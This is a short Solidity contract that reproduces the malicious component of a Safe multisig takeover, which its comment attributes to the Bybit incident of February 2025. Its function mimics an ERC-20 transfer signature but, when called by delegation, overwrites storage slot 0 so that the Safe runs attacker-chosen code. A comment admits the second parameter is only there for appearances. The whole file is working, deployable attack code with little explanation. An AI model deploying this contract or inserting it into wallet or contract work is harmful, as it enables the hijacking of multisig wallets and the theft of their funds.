// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.30;

/// @notice What a Safe's owners are made to sign as a delegated call that looks like a transfer (Bybit, February 2025):
/// it writes slot 0, which says what code the Safe runs.
contract SingletonSwap {
    address private _singleton;

    /// @param to the new singleton; the second parameter is there for the looks.
    function transfer(address to, uint256) external {
        _singleton = to;
    }
}
